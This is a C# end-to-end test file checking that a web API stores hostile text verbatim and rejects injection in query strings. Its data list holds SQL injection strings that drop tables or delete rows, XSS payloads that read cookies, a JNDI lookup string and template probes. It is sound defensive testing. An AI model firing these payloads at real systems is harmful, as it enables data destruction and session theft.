using System.Net;
using System.Net.Http.Json;
using EndToEnd.Tests.Infrastructure;
using Shared.Contracts.Common;
using Shared.Contracts.Posts;
using Shared.Contracts.Users;

namespace EndToEnd.Tests.BadInput;

/// <summary>SQL and script fragments are data: stored and returned byte for byte, and nothing else is touched.</summary>
[TestFixture]
public sealed class HostileTextTests
{
    private static readonly string[] HostileStrings =
    [
        "Robert'); DROP TABLE Users;--",
        "' OR '1'='1' --",
        "1; DELETE FROM Posts WHERE 1=1",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "\"}]}{\"injected\": true",
        "${jndi:ldap://example.invalid/a} {{7*7}} %s%n",
        "emoji 🚀 and ünïcödé and \u202Eright-to-left",
    ];

    private SeededSystem _seeded = null!;
    private HttpClient _client = null!;
    private ApiDriver _api = null!;

    [OneTimeSetUp]
    public async Task StartSystem() => _seeded = await SharedSystem.GetAsync();

    // A client id per case: every case logs in once, and the token route allows 10 a minute per client.
    [SetUp]
    public void CreateClient()
    {
        _client = _seeded.System.CreateGatewayClient();
        _client.DefaultRequestHeaders.Add(GatewayRouteFiles.ClientIdHeader(), "hostile-" + Guid.NewGuid().ToString("N"));
        _api = new ApiDriver(_client);
    }

    [TearDown]
    public void AttachLogsOnFailureAndDisposeClient()
    {
        if (TestOutcome.CurrentTestFailed)
        {
            _seeded.System.AttachLogs();
        }

        _client.Dispose();
    }

    [TestCaseSource(nameof(HostileStrings))]
    public async Task CreateAndUpdate_HostileText_IsStoredVerbatimAndHarmsNothing(string hostile)
    {
        var seededBefore = await ResourceSnapshot.TakeAsync(_client, _seeded.Users.Select(u => $"/api/users/{u.Id}"));
        var user = await _api.RegisterAsync(bio: hostile);
        var token = await _api.TokenAsync(user);
        var post = await _api.CreatePostAsync(token, hostile, hostile + " in the body");

        using var update = ApiDriver.Authorized(HttpMethod.Put, $"/api/users/{user.Id}", token, JsonContent.Create(new UpdateUserRequest(hostile, hostile)));
        using var updated = await _client.SendAsync(update);
        var readUser = await _api.GetAsync<PublicUserResponse>($"/api/users/{user.Id}");
        var readPost = await _api.GetAsync<PostResponse>($"/api/posts/{post.Id}");
        var listed = await _api.GetAsync<PagedResponse<PostResponse>>($"/api/users/{user.Id}/posts");
        var seededAfter = await ResourceSnapshot.TakeAsync(_client, _seeded.Users.Select(u => $"/api/users/{u.Id}"));

        Assert.Multiple(() =>
        {
            Assert.That(updated.StatusCode, Is.EqualTo(HttpStatusCode.OK));
            Assert.That(readUser.DisplayName, Is.EqualTo(hostile));
            Assert.That(readUser.Bio, Is.EqualTo(hostile));
            Assert.That(readPost.Title, Is.EqualTo(hostile));
            Assert.That(readPost.Body, Is.EqualTo(hostile + " in the body"));
            Assert.That(listed.Items.Select(p => p.Title), Is.EqualTo(new[] { hostile }));
            Assert.That(seededAfter.DifferencesFrom(seededBefore), Is.Empty, "other users are untouched");
        });
    }

    [TestCase("/api/users?cursor=%27%3B%20DROP%20TABLE%20Users%3B--")]
    [TestCase("/api/posts?authorId=%27%20OR%201%3D1%20--")]
    public async Task List_InjectionInQuery_IsRejectedWith400(string path)
    {
        var before = await ResourceSnapshot.TakeAsync(_client, _seeded.Users.Select(u => $"/api/users/{u.Id}"));

        using var response = await _client.GetAsync(new Uri(path, UriKind.Relative));
        var after = await ResourceSnapshot.TakeAsync(_client, _seeded.Users.Select(u => $"/api/users/{u.Id}"));

        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
        Assert.That(after.DifferencesFrom(before), Is.Empty);
    }
}
